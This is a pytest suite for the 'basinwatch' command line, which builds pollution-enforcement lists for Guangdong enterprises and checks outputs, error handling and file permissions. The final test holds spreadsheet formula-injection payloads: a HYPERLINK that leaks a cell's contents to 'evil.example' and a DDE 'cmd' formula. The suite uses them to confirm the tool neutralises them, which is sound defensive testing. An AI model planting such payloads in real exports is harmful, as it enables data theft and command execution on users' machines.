"""The ``basinwatch`` command line on real files."""

from __future__ import annotations

import json
from pathlib import Path

import geopandas as gpd
import openpyxl
import pandas as pd
import pytest
from typer.testing import CliRunner

from api.cli import app

runner = CliRunner()


@pytest.mark.slow
def test_run_on_bundled_sample_writes_every_output(tmp_path: Path, sample_result) -> None:
    out = tmp_path / "out"
    result = runner.invoke(app, ["run", "--out", str(out), "--as-of", "2019-06-30"])
    assert result.exit_code == 0, result.output
    csv = pd.read_csv(out / "enforcement_list.csv", dtype={"uscc": str, "district_code": str})
    rejected = pd.read_csv(out / "rejected_rows.csv")
    assert len(csv) == len(sample_result.enterprises)
    assert len(rejected) == len(sample_result.rejected)
    assert len(csv) + (rejected["source"] == "registry").sum() == sample_result.source_rows
    assert csv["verdict"].value_counts().to_dict() == sample_result.verdict_counts
    units = pd.read_csv(out / "enforcement_units.csv", dtype=str, keep_default_na=False)
    assert len(units) == len(sample_result.units)
    assert set(units["enterprise_row"].astype(int)) <= set(csv["row"])
    gj = gpd.read_file(out / "enforcement_list.geojson")
    gp = gpd.read_file(out / "enforcement_list.gpkg")
    assert len(gj) == len(gp) == len(csv)
    assert sorted(gj["uscc"]) == sorted(csv["uscc"])
    book = openpyxl.load_workbook(out / "enforcement_list.xlsx", read_only=True)
    assert "汇总" in book.sheetnames and len(book.sheetnames) >= 6
    assert "设备清单" in book.sheetnames
    html = (out / "map.html").read_text("utf-8")
    assert "练江" in html and "<script src=" not in html


def test_run_small_registry_reports_rejections(tmp_path: Path, data_file) -> None:
    src = data_file("registry_small.csv")
    out = tmp_path / "o"
    result = runner.invoke(app, ["run", str(src), "--out", str(out), "--no-map"])
    assert result.exit_code == 0, result.output
    rejected = pd.read_csv(out / "rejected_rows.csv")
    accepted = pd.read_csv(out / "enforcement_list.csv")
    source_rows = len(pd.read_csv(src).dropna(how="all"))
    assert len(rejected) + len(accepted) == source_rows
    assert set(rejected.columns) >= {"row", "field", "reason", "message"}
    assert not (out / "map.html").exists()


def test_run_writes_stage_timings(tmp_path: Path, data_file) -> None:
    """--timings: every stage that ran, with the rows the written files hold."""
    src = data_file("registry_small.csv")
    out, timings = tmp_path / "o", tmp_path / "t.json"
    result = runner.invoke(app, ["run", str(src), "--out", str(out), "--timings", str(timings)])
    assert result.exit_code == 0, result.output
    body = json.loads(timings.read_text("utf-8"))
    stages = body["stages"]
    assert list(stages)[:4] == ["read", "geocode", "classify", "rules"]
    assert {"csv", "geojson", "xlsx", "gpkg", "rejected", "map"} <= set(stages)
    accepted = pd.read_csv(out / "enforcement_list.csv")
    assert stages["read"]["rows"] == len(pd.read_csv(src).dropna(how="all"))
    assert stages["rules"]["rows"] == stages["map"]["rows"] == len(accepted)
    assert stages["rejected"]["rows"] == len(pd.read_csv(out / "rejected_rows.csv"))
    for t in stages.values():
        assert t["seconds"] >= 0 and t["cpu_seconds"] >= 0 and t["peak_rss_mb"] > 0
    assert body["peak_rss_mb"] >= max(t["peak_rss_mb"] for t in stages.values())


def test_run_with_equipment_file_and_as_of(tmp_path: Path) -> None:
    """--equipment and --as-of: the unit decides, the deadline turns overdue with the date."""
    import csv as csvmod

    reg, equ = tmp_path / "r.csv", tmp_path / "e.csv"
    with reg.open("w", encoding="utf-8-sig", newline="") as fh:
        w = csvmod.writer(fh)
        w.writerow(["统一社会信用代码", "企业名称", "行业", "经度", "纬度"])
        w.writerow(["", "深圳某印染厂", "印染", "114.25", "22.72"])
    with equ.open("w", encoding="utf-8-sig", newline="") as fh:
        w = csvmod.writer(fh)
        w.writerow(["企业名称", "设备编号", "设备类型", "锅炉蒸吨(t/h)", "燃料"])
        w.writerow(["深圳某印染厂", "1号锅炉", "锅炉", "6", "燃煤"])
        w.writerow(["深圳某印染厂", "2号锅炉", "锅炉", "6吨", "燃煤"])  # 吨 is not a steam rate
    for as_of, status in (("2019-06-30", "pending"), ("2020-01-02", "overdue")):
        out = tmp_path / as_of
        res = runner.invoke(app, ["run", str(reg), "--equipment", str(equ), "--as-of", as_of,
                                  "--out", str(out), "--no-map"])
        assert res.exit_code == 0, res.output
        ent = pd.read_csv(out / "enforcement_list.csv", dtype=str, keep_default_na=False)
        assert ent.loc[0, "verdict"] == "rectify" and ent.loc[0, "deadline"] == "2019-12-31"
        assert ent.loc[0, "deadline_status"] == status
        assert ent.loc[0, "units"].startswith("1号锅炉（限期整改〔二(二)2〕")
        assert ent.loc[0, "unit_count"] == "1" and "涉及设备：1号锅炉" in ent.loc[0, "reasons"]
        rej = pd.read_csv(out / "rejected_rows.csv", dtype=str, keep_default_na=False)
        assert rej[["source", "row", "field", "reason"]].values.tolist() == \
            [["equipment", "3", "锅炉蒸吨", "measure_unit_unknown"]]
        gj = gpd.read_file(out / "enforcement_list.geojson")
        assert gj.loc[0, "units"] == ent.loc[0, "units"]
        sheet = pd.read_excel(out / "enforcement_list.xlsx", sheet_name="设备清单", dtype=str)
        assert sheet["设备编号/名称"].tolist() == ["1号锅炉"]
        assert sheet["期限状态"].tolist() == [{"pending": "期限内", "overdue": "已逾期"}[status]]
    missing = runner.invoke(app, ["run", str(reg), "--equipment", str(tmp_path / "no.csv"),
                                  "--out", str(tmp_path / "x")])
    assert missing.exit_code == 2 and "no such file" in missing.output


def test_run_rejects_missing_file_and_bad_date(tmp_path: Path) -> None:
    missing = runner.invoke(app, ["run", str(tmp_path / "nope.csv"), "--out", str(tmp_path)])
    assert missing.exit_code == 2 and "no such file" in missing.output
    bad = runner.invoke(app, ["run", "--as-of", "2019-13-01", "--out", str(tmp_path)])
    assert bad.exit_code == 2 and "YYYY-MM-DD" in bad.output


def test_run_reports_missing_column(tmp_path: Path) -> None:
    src = tmp_path / "bad.csv"
    src.write_text("企业名称,地址\n某公司,广东省汕头市潮南区\n", encoding="utf-8")
    result = runner.invoke(app, ["run", str(src), "--out", str(tmp_path / "o")])
    assert result.exit_code == 2
    assert "行业" in result.output or "industry" in result.output
    assert not (tmp_path / "o" / "enforcement_list.csv").exists()


def test_locate_prints_json() -> None:
    result = runner.invoke(app, ["locate", "113.90", "22.76"])
    assert result.exit_code == 0, result.output
    answer = json.loads(result.output)
    assert answer["location"]["district"] == "光明区"
    assert answer["location"]["basin_id"] == "maozhou"
    paper = next(i for i in answer["industries"] if i["industry_id"] == "paper")
    assert "DB44/2130-2018" in paper["standards"]


def test_locate_outside_guangdong_is_a_clear_error() -> None:
    result = runner.invoke(app, ["locate", "22.76", "113.90"])
    assert result.exit_code == 2
    assert "Guangdong" in result.output


def test_layers_lists_provenance() -> None:
    result = runner.invoke(app, ["layers"])
    assert result.exit_code == 0
    for layer_id in ("lianjiang", "maozhou", "shima", "danshui", "guangfo", "parks"):
        assert layer_id in result.output


def test_sample_is_reproducible(tmp_path: Path) -> None:
    a, b = tmp_path / "a.csv", tmp_path / "b.csv"
    for path in (a, b):
        assert runner.invoke(app, ["sample", "--out", str(path), "-n", "120"]).exit_code == 0
    assert a.read_bytes() == b.read_bytes()
    frame = pd.read_csv(a)
    assert len(frame) == 120 and "统一社会信用代码" in frame.columns
    assert frame["数据说明"].str.contains("synthetic").all()
    units = pd.read_csv(tmp_path / "a_equipment.csv", dtype=str)
    assert units["统一社会信用代码"].isin(frame["统一社会信用代码"]).mean() > 0.9


def test_raster_density_writes_cog(tmp_path: Path, data_file) -> None:
    import rasterio

    out = tmp_path / "d.tif"
    src = data_file("registry_small.csv")
    result = runner.invoke(
        app, ["raster", "density", str(src), "--cell", "5000", "--by", "verdict", "--out", str(out)]
    )
    assert result.exit_code == 0, result.output
    with rasterio.open(out) as ds:
        assert ds.crs is not None and ds.nodata is not None
        assert ds.descriptions[0] == "total"
        total = ds.read(1)
        per_verdict = ds.read(list(range(2, ds.count + 1))).sum(axis=0)
    assert total[total != ds.nodata].sum() == per_verdict[total != ds.nodata].sum() > 0


def test_raster_density_rejects_unknown_band_kind(tmp_path: Path) -> None:
    result = runner.invoke(app, ["raster", "density", "--by", "colour", "--out", str(tmp_path / "x")])
    assert result.exit_code == 2 and "industry" in result.output


def test_load_into_embedded_store_is_versioned(tmp_path: Path, data_file, monkeypatch) -> None:
    from api.store import get_store

    monkeypatch.setenv("BASINWATCH_DATA_DIR", str(tmp_path / "store"))
    monkeypatch.delenv("BASINWATCH_DATABASE_URL", raising=False)
    src = data_file("registry_small.csv")
    for _ in range(2):
        result = runner.invoke(app, ["load", str(src)])
        assert result.exit_code == 0, result.output
    store = get_store(None, data_dir=tmp_path / "store")
    loads = store.loads()
    assert [r.load_id for r in loads] == [2, 1]
    assert loads[0].source_name == "registry_small.csv"
    store.close()


# ---------------------------------------------------------------- misuse, as a new user


def _clean_failure(result, *needles: str) -> None:  # noqa: ANN001
    """Exit code 2, a message naming what was wrong, and no traceback."""
    assert result.exit_code == 2, result.output
    assert isinstance(result.exception, SystemExit), repr(result.exception)
    assert "Traceback" not in result.output
    for needle in needles:
        assert needle in result.output, (needle, result.output)


@pytest.mark.parametrize("n", [1, 5, 10])
def test_sample_small_sizes(tmp_path: Path, n: int) -> None:
    out = tmp_path / f"s{n}.csv"
    result = runner.invoke(app, ["sample", "-n", str(n), "--out", str(out)])
    assert result.exit_code == 0, result.output
    assert len(pd.read_csv(out)) == n


@pytest.mark.parametrize("n", ["0", "-5", "x"])
def test_sample_rejects_bad_sizes(tmp_path: Path, n: str) -> None:
    result = runner.invoke(app, ["sample", "-n", n, "--out", str(tmp_path / "s.csv")])
    _clean_failure(result, "-n")
    assert not (tmp_path / "s.csv").exists()


def test_sample_rejects_folder_and_negative_seed(tmp_path: Path) -> None:
    _clean_failure(runner.invoke(app, ["sample", "--out", str(tmp_path)]), "folder")
    _clean_failure(runner.invoke(app, ["sample", "--seed", "-1", "--out",
                                       str(tmp_path / "s.csv")]), "--seed")


def test_run_out_naming_an_existing_file(tmp_path: Path) -> None:
    target = tmp_path / "afile"
    target.write_text("keep me", encoding="utf-8")
    _clean_failure(runner.invoke(app, ["run", "--out", str(target), "--no-map"]),
                   "--out", "is a file")
    assert target.read_text(encoding="utf-8") == "keep me"


def test_run_binary_registry(tmp_path: Path) -> None:
    nul = tmp_path / "nul.csv"
    nul.write_bytes(b"\x00" * 20_000)
    result = runner.invoke(app, ["run", str(nul), "--out", str(tmp_path / "o")])
    _clean_failure(result, "binary file")
    assert len(result.output) < 800 and not (tmp_path / "o").exists()


def test_run_header_only_registry(tmp_path: Path) -> None:
    src = tmp_path / "hdr.csv"
    src.write_text("企业名称,行业,地址\n", encoding="utf-8")
    result = runner.invoke(app, ["run", str(src), "--out", str(tmp_path / "o"), "--no-map"])
    _clean_failure(result, "no data rows", "hdr.csv")


def test_run_registry_is_a_folder(tmp_path: Path) -> None:
    _clean_failure(runner.invoke(app, ["run", str(tmp_path), "--out", str(tmp_path / "o")]),
                   "is a folder")


def test_run_with_every_row_rejected_warns(tmp_path: Path) -> None:
    src = tmp_path / "bad.csv"
    src.write_text("企业名称,行业,地址\n某厂,化工,汕头市\n某厂二,电镀,汕头市\n", encoding="utf-8")
    result = runner.invoke(app, ["run", str(src), "--out", str(tmp_path / "o"), "--no-map"])
    assert result.exit_code == 0, result.output
    assert "warning" in result.output and "rejected_rows.csv" in result.output
    assert len(pd.read_csv(tmp_path / "o" / "rejected_rows.csv")) == 2


def test_run_summary_lists_verdicts_strongest_first_in_chinese(tmp_path: Path, data_file) -> None:
    from layers.catalog import read_data_toml

    verdicts = read_data_toml("rules.toml")["verdicts"]  # the catalog file is the oracle
    order = sorted(verdicts, key=lambda v: verdicts[v]["rank"])
    result = runner.invoke(app, ["run", str(data_file("registry_small.csv")),
                                 "--out", str(tmp_path / "o"), "--no-map"])
    assert result.exit_code == 0, result.output
    positions = [result.output.index(f"{verdicts[v]['label_zh']} ({v})") for v in order]
    assert positions == sorted(positions)


def test_verbose_lines_speak_to_the_user(tmp_path: Path, data_file) -> None:
    result = runner.invoke(app, ["-v", "run", str(data_file("registry_small.csv")),
                                 "--out", str(tmp_path / "o"), "--no-map"])
    assert result.exit_code == 0, result.output
    for stage in ("读取名录", "定位", "空间归属", "规则判定", "enforcement_list.xlsx"):
        assert stage in result.output, stage
    assert "INFO:" not in result.output and "geo.ingest" not in result.output


def test_quiet_progress_when_not_a_terminal(tmp_path: Path, data_file) -> None:
    result = runner.invoke(app, ["run", str(data_file("registry_small.csv")),
                                 "--out", str(tmp_path / "o"), "--no-map"])
    assert result.exit_code == 0 and "读取名录" not in result.output


def test_live_progress_shows_each_stage_with_counts() -> None:
    import io

    from rich.console import Console

    from api.cli import StageProgress

    buf = io.StringIO()
    term = Console(file=buf, force_terminal=True, width=120)
    with StageProgress(live=True, out=term) as step:
        step("read")
        step("read", 200_000, done=True)
        step("xlsx", 198_320)
        step("xlsx", 198_320, done=True)
    text = buf.getvalue()
    assert "读取名录" in text and "200,000" in text and "enforcement_list.xlsx" in text
    assert "198,320" in text


def test_help_has_no_type_noise() -> None:
    result = runner.invoke(app, ["--help"])
    assert result.exit_code == 0
    assert "<bool>" not in result.output and "-v, --verbose" in result.output
    assert "<bool>" not in runner.invoke(app, ["run", "--help"]).output


@pytest.mark.parametrize("cell", ["0", "-3", "nan"])
def test_raster_cell_errors_name_the_option(tmp_path: Path, cell: str) -> None:
    result = runner.invoke(app, ["raster", "density", "--cell", cell,
                                 "--out", str(tmp_path / "d.tif")])
    _clean_failure(result, "--cell")
    assert "cell_m" not in result.output


def test_raster_too_fine_a_cell_names_the_option(tmp_path: Path, data_file) -> None:
    result = runner.invoke(app, ["raster", "density", str(data_file("registry_small.csv")),
                                 "--cell", "0.5", "--out", str(tmp_path / "d.tif")])
    _clean_failure(result)
    assert "cell_m" not in result.output and not (tmp_path / "d.tif").exists()


def test_locate_misuse(tmp_path: Path) -> None:
    _clean_failure(runner.invoke(app, ["locate", "116.4", "23.3", "--crs", "Web墨卡托"]),
                   "Web墨卡托")
    _clean_failure(runner.invoke(app, ["locate", "116.4", "23.3", "--as-of", "2019-02-30"]),
                   "YYYY-MM-DD")
    _clean_failure(runner.invoke(app, ["locate", "nan", "23.3"]), "finite")


# ---------------------------------------------------------------- real processes


def _basinwatch(*args: str, cwd: Path, umask: str = "022"):  # noqa: ANN202
    import shutil
    import subprocess
    import sys

    exe = shutil.which("basinwatch", path=str(Path(sys.executable).parent))
    assert exe, "the basinwatch console script is installed in this environment"
    quoted = " ".join(f"'{a}'" for a in args)
    return subprocess.run(["sh", "-c", f"umask {umask} && '{exe}' {quoted}"], cwd=cwd,
                          capture_output=True, text=True, timeout=300)


@pytest.mark.parametrize("umask, mode", [("022", 0o644), ("027", 0o640)])
def test_sample_files_follow_the_umask(tmp_path: Path, umask: str, mode: int) -> None:
    proc = _basinwatch("sample", "-n", "20", "--out", "s.csv", cwd=tmp_path, umask=umask)
    assert proc.returncode == 0, proc.stderr
    assert (tmp_path / "s.csv").stat().st_mode & 0o777 == mode


def test_real_process_misuse_prints_messages_not_tracebacks(tmp_path: Path) -> None:
    (tmp_path / "nul.csv").write_bytes(b"\x00" * 5000)
    for args, needle in ((("sample", "-n", "0"), "-n"),
                         (("run", "nul.csv", "--no-map"), "binary file")):
        proc = _basinwatch(*args, cwd=tmp_path)
        assert proc.returncode == 2, proc.stderr
        assert needle in proc.stderr and "Traceback" not in proc.stderr + proc.stdout


@pytest.mark.slow
def test_run_outputs_follow_the_umask(tmp_path: Path) -> None:
    proc = _basinwatch("run", "--out", "o", cwd=tmp_path, umask="027")
    assert proc.returncode == 0, proc.stderr
    modes = {p.name: p.stat().st_mode & 0o777 for p in (tmp_path / "o").iterdir()}
    assert set(modes.values()) == {0o640}, modes
    assert "map.html" in modes and "enforcement_list.provenance.json" in modes


def test_run_outputs_neutralise_formulas(tmp_path: Path) -> None:
    """Issue 14 item 2 on the CLI path: registry names that are formulas stay text."""
    import csv
    import io

    names = ['=HYPERLINK("http://evil.example/?leak="&A1,"x")', "=cmd|' /C calc'!A0",
             "+1+1", "@SUM(1,1)"]
    lines = ["企业名称,行业,地址,经度,纬度"]
    lines += [f'"{n.replace(chr(34), chr(34) * 2)}",印染,汕头市潮南区陈店镇,116.43,23.25'
              for n in names]
    lines.append('"-2+3",电镀,汕头市潮南区陈店镇,116.43,23.25')  # rejected: unknown industry
    src = tmp_path / "evil.csv"
    src.write_text("\n".join(lines) + "\n", encoding="utf-8")
    out = tmp_path / "o"
    result = runner.invoke(app, ["run", str(src), "--out", str(out), "--no-map"])
    assert result.exit_code == 0, result.output
    book = openpyxl.load_workbook(out / "enforcement_list.xlsx")
    cells = [c for ws in book.worksheets for row in ws.iter_rows() for c in row
             if c.value is not None]
    assert not [c.coordinate for c in cells if c.data_type == "f"]
    assert {c.value for c in cells if isinstance(c.value, str) and "HYPERLINK" in c.value} == {
        "'" + names[0]}
    for name in ("enforcement_list.csv", "rejected_rows.csv"):
        text = (out / name).read_text(encoding="utf-8-sig")
        rows = list(csv.DictReader(io.StringIO(text, newline="")))
        assert all(not r["name"].startswith(("=", "+", "-", "@")) for r in rows), name
    rejected = pd.read_csv(out / "rejected_rows.csv", dtype=str)
    assert rejected["name"].tolist() == ["'-2+3"]
